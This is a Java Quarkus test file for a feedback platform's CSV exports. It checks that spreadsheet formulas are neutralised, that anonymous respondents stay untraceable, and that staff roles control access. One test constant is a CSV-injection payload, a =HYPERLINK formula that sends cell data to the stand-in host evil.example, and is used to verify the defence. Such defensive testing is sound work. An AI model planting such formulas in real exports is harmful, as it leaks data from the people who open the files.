package dev.rapport.feedback.export;

import static dev.rapport.feedback.consultation.Fixtures.invite;
import static dev.rapport.feedback.consultation.Fixtures.openConsultation;
import static dev.rapport.feedback.consultation.Fixtures.ratings;
import static dev.rapport.feedback.consultation.Fixtures.token;
import static dev.rapport.feedback.support.Api.analyst;
import static dev.rapport.feedback.support.Api.as;
import static dev.rapport.feedback.support.Api.contact;
import static dev.rapport.feedback.support.Api.marketer;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.startsWith;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.rapport.feedback.consultation.Fixtures;
import io.quarkus.test.junit.QuarkusTest;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.Test;

/**
 * The CSV exports staff download: a formula typed into a comment stays text in a spreadsheet, and an anonymous
 * response leaves nothing in the file that leads back to the person (no contact, no response id, no time).
 */
@QuarkusTest
class CsvExportTest {
    static final String FORMULA = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\")";

    @Test
    void responsesExportNeutralisesFormulasAndKeepsAnonymousRespondentsAnonymous() {
        Fixtures.Consultation c = openConsultation(2);
        UUID named = UUID.randomUUID();
        UUID shy = UUID.randomUUID();
        List<String> inv = invite(c.id(), Map.of("region", "north"), named, shy);
        String namedResponse = contact(named).body("{\"invitationId\":\"" + inv.get(0) + "\",\"ratings\":[{\"initiativeId\":\""
                        + c.initiative(1) + "\",\"bucket\":\"ESSENTIAL\",\"comment\":" + json(FORMULA) + "},{\"initiativeId\":\""
                        + c.initiative(2) + "\",\"bucket\":\"NOT_IMPORTANT\"}]}")
                .post("/responses").then().statusCode(201).extract().path("id");
        String anonymousResponse = as("integration").body("{\"invitationToken\":\"" + token(inv.get(1)) + "\",\"anonymous\":true,"
                        + "\"allowReply\":true,\"ratings\":[{\"initiativeId\":\"" + c.initiative(2) + "\",\"bucket\":\"IMPORTANT\","
                        + "\"comment\":\"Please, quietly\"}]}")
                .post("/responses").then().statusCode(201).extract().path("id");

        String csv = analyst().accept("text/csv").get("/consultations/" + c.id() + "/responses").then().statusCode(200)
                .contentType(startsWith("text/csv"))
                .header("Content-Disposition", "attachment; filename=\"responses-" + c.id() + ".csv\"")
                .extract().asString();
        List<String> lines = Arrays.asList(csv.split("\r\n"));
        assertEquals("respondent,anonymous,responseId,contactId,submittedAt,position,initiativeId,initiative,bucket,comment",
                lines.get(0));
        assertEquals(4, lines.size(), csv);
        // the named response: one row per rating in the consultation's order, the formula neutralised
        assertTrue(lines.get(1).startsWith(namedResponse + ",false," + namedResponse + "," + named + ","), lines.get(1));
        assertTrue(lines.get(1).endsWith(",1," + c.initiative(1) + ",Initiative 1,ESSENTIAL,"
                + "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click for details\"\")\""), lines.get(1));
        assertTrue(lines.get(2).endsWith(",2," + c.initiative(2) + ",Initiative 2,NOT_IMPORTANT,"), lines.get(2));
        assertFalse(csv.contains("\n=") || csv.contains(",=") || csv.contains("\"="), "no cell starts with =: " + csv);
        // the anonymous response: its ratings, and nothing that points at the person
        assertEquals("anonymous-1,true,,,,2," + c.initiative(2) + ",Initiative 2,IMPORTANT,\"Please, quietly\"", lines.get(3));
        for (String leak : List.of(shy.toString(), anonymousResponse, inv.get(1))) {
            assertFalse(csv.contains(leak), "the export names " + leak + ":\n" + csv);
        }
    }

    @Test
    void responsesExportIsForStaffWhoReadReports() {
        Fixtures.Consultation c = openConsultation(1);
        marketer().accept("text/csv").get("/consultations/" + c.id() + "/responses").then().statusCode(200);
        as("agent").accept("text/csv").get("/consultations/" + c.id() + "/responses").then().statusCode(403);
        as("integration").accept("text/csv").get("/consultations/" + c.id() + "/responses").then().statusCode(403);
        contact(UUID.randomUUID()).accept("text/csv").get("/consultations/" + c.id() + "/responses").then().statusCode(403);
        analyst().accept("text/csv").get("/consultations/" + UUID.randomUUID() + "/responses").then().statusCode(404);
    }

    @Test
    void prioritiesAsCsvFollowTheRankingAndJsonStaysTheDefault() {
        Fixtures.Consultation c = openConsultation("Initiative 1", "Initiative 2", "=1+2");
        UUID a = UUID.randomUUID();
        List<String> inv = invite(c.id(), Map.of(), a);
        contact(a).body("{\"invitationId\":\"" + inv.get(0) + "\",\"ratings\":" + ratings(Map.of(c.initiative(1), "NOT_IMPORTANT",
                c.initiative(2), "ESSENTIAL")) + "}").post("/responses").then().statusCode(201);

        String csv = analyst().accept("text/csv").get("/consultations/" + c.id() + "/priorities").then().statusCode(200)
                .contentType(startsWith("text/csv"))
                .header("Content-Disposition", containsString("priorities-" + c.id() + ".csv")).extract().asString();
        List<String> lines = Arrays.asList(csv.split("\r\n"));
        assertEquals(4, lines.size(), csv);
        assertTrue(lines.get(0).startsWith("rank,position,initiativeId,title,score,ratings,essential,"), lines.get(0));
        assertTrue(lines.get(1).startsWith("1,2," + c.initiative(2) + ",Initiative 2,100.00,1,1,0,0,0,1.0000,"), lines.get(1));
        assertTrue(lines.get(2).startsWith("2,1," + c.initiative(1) + ",Initiative 1,0.00,1,0,0,0,1,"), lines.get(2));
        assertTrue(lines.get(3).startsWith("3,3,"), lines.get(3));
        assertTrue(lines.get(3).contains(",'=1+2,,0,"), "a title that is a formula is neutralised: " + lines.get(3));

        analyst().get("/consultations/" + c.id() + "/priorities").then().statusCode(200).contentType(startsWith("application/json"));
        as("agent").accept("text/csv").get("/consultations/" + c.id() + "/priorities").then().statusCode(403);
        analyst().accept("text/csv").queryParam("segment", "nocolon").get("/consultations/" + c.id() + "/priorities")
                .then().statusCode(400);
    }

    @Test
    void renewalTierReportAsCsv() {
        String p = marketer().body("{\"name\":\"Season ticket\"}").post("/programmes").then().statusCode(201).extract().path("id");
        String rows = "{\"contactId\":\"" + UUID.randomUUID() + "\",\"score\":5,\"outcome\":\"RENEWED_EARLY\"},"
                + "{\"contactId\":\"" + UUID.randomUUID() + "\",\"score\":5,\"outcome\":\"LAPSED\"},"
                + "{\"contactId\":\"" + UUID.randomUUID() + "\",\"score\":1}";
        as("integration").body("{\"period\":\"2026/27\",\"scoredBy\":\"model\",\"rows\":[" + rows + "]}")
                .post("/programmes/" + p + "/members/import").then().statusCode(200);

        String csv = analyst().accept("text/csv").queryParam("period", "2026/27").get("/programmes/" + p + "/report").then()
                .statusCode(200).contentType(startsWith("text/csv"))
                .header("Content-Disposition", "attachment; filename=\"renewal-report-" + p + "-2026-27.csv\"")
                .extract().asString();
        assertEquals(List.of("tier,members,renewedEarly,renewed,lapsed,undecided,renewalRate,earlyRenewalRate,lift",
                "1,1,0,0,0,1,0.0,0.0,0.00",
                "2,0,0,0,0,0,,,",
                "3,0,0,0,0,0,,,",
                "4,0,0,0,0,0,,,",
                "5,2,1,0,1,0,50.0,50.0,1.50",
                "total,3,1,0,1,1,33.3,33.3,1.00",
                "unscored,0,,,,,,,"), Arrays.asList(csv.split("\r\n")));

        analyst().queryParam("period", "2026/27").get("/programmes/" + p + "/report").then().statusCode(200)
                .contentType(startsWith("application/json"));
        analyst().accept("text/csv").get("/programmes/" + p + "/report").then().statusCode(400);
        as("agent").accept("text/csv").queryParam("period", "2026/27").get("/programmes/" + p + "/report").then().statusCode(403);
    }

    private static String json(String s) {
        return "\"" + s.replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
    }
}
